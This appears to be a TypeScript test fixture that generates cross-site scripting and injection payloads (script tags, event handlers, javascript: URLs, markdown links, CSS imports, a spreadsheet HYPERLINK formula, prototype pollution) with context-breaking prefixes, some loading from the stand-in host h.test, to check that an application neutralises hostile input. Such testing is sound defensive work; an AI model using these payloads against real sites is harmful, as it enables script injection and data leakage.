/** Where the words below would send the window, or fetch from. */
export const elsewhere = 'h.test'

/** Each leaves a trace when it runs (the global `ran`), or asks something of a machine elsewhere. */
const payloads: readonly ((n: number) => string)[] = [
  (n) => `<script>ran=${n}</script>`,
  (n) => `<ScRiPt>ran=${n}</ScRiPt>`,
  (n) => `<script src=//h.test/${n}></script>`,
  (n) => `<img src=x onerror=ran=${n}>`,
  (n) => `<img src=//h.test/${n}>`,
  (n) => `<img srcset=//h.test/${n}>`,
  (n) => `<img src="jav&#9;ascript:ran=${n}">`,
  (n) => `<svg onload=ran=${n}>`,
  (n) => `<svg/onload=ran=${n}>`,
  (n) => `<svg><script>ran=${n}</script>`,
  (n) => `<svg><animate onbegin=ran=${n}>`,
  (n) => `<svg><use href=//h.test/${n}>`,
  (n) => `<iframe src=//h.test/${n}>`,
  (n) => `<iframe src=javascript:ran=${n}>`,
  (n) => `<iframe srcdoc=<script>ran=${n}</script>>`,
  (n) => `<object data=//h.test/${n}>`,
  (n) => `<embed src=//h.test/${n}>`,
  (n) => `<video poster=//h.test/${n}>`,
  (n) => `<audio src=x onerror=ran=${n}>`,
  (n) => `<details open ontoggle=ran=${n}>`,
  (n) => `<body onload=ran=${n}>`,
  (n) => `<input autofocus onfocus=ran=${n}>`,
  (n) => `<select autofocus onfocus=ran=${n}>`,
  (n) => `<p onmouseover=ran=${n}>`,
  (n) => `<style>@import'//h.test/${n}'`,
  (n) => `<link rel=stylesheet href=//h.test/${n}>`,
  (n) => `<b style=background:url(//h.test/${n})>`,
  (n) => `<table background=//h.test/${n}>`,
  (n) => `<base href=//h.test/${n}>`,
  (n) => `<meta http-equiv=refresh content=0;//h.test/${n}>`,
  (n) => `<form action=//h.test/${n}><button>`,
  (n) => `<a href=javascript:ran=${n}>x</a>`,
  (n) => `<a href=//h.test/${n} ping=//h.test/${n}>x`,
  (n) => `<math href=javascript:ran=${n}>x`,
  (n) => `[x](javascript:ran=${n})`,
  (n) => `[x](https://h.test/${n})`,
  (n) => `![x](https://h.test/${n})`,
  (n) => `<https://h.test/${n}>`,
  (n) => `https://h.test/${n}`,
  (n) => `javascript:ran=${n}`,
  (n) => `data:text/html,<script>ran=${n}</script>`,
  (n) => `</textarea><script>ran=${n}</script>`,
  (n) => `</title><script>ran=${n}</script>`,
  (n) => `&lt;script&gt;ran=${n}&lt;/script&gt;`,
  (n) => `%3Cscript%3Eran=${n}%3C/script%3E`,
  (n) => `{{ran=${n}}}`,
  (n) => `\${ran=${n}}`,
  (n) => `');ran=${n};//`,
  (n) => `=HYPERLINK("//h.test/${n}")`,
  (n) => `__proto__[ran]=${n}`,
]
/** What could end whatever a text is put into before it begins. */
const openings = ['', '"', "'", '">', '`', '</p>', '<b>', '-->', ']]>', '\u202E']

export const hostileWords: readonly string[] = payloads.flatMap((payload, index) =>
  openings.map((opening, nth) => opening + payload(index * openings.length + nth)),
)

/** As many of them in a row, from one on, as fit into the field; after a mark to find the text by. */
export function wordsFor(mark: string, from: number, mostLetters: number): string {
  let text = `${mark} ${hostileWords[from % hostileWords.length] ?? ''}`.slice(0, mostLetters)
  for (let next = from + 1; next < from + hostileWords.length; next += 1) {
    const longer = `${text}\n${hostileWords[next % hostileWords.length] ?? ''}`
    if (longer.length > mostLetters) break
    text = longer
  }
  return text
}
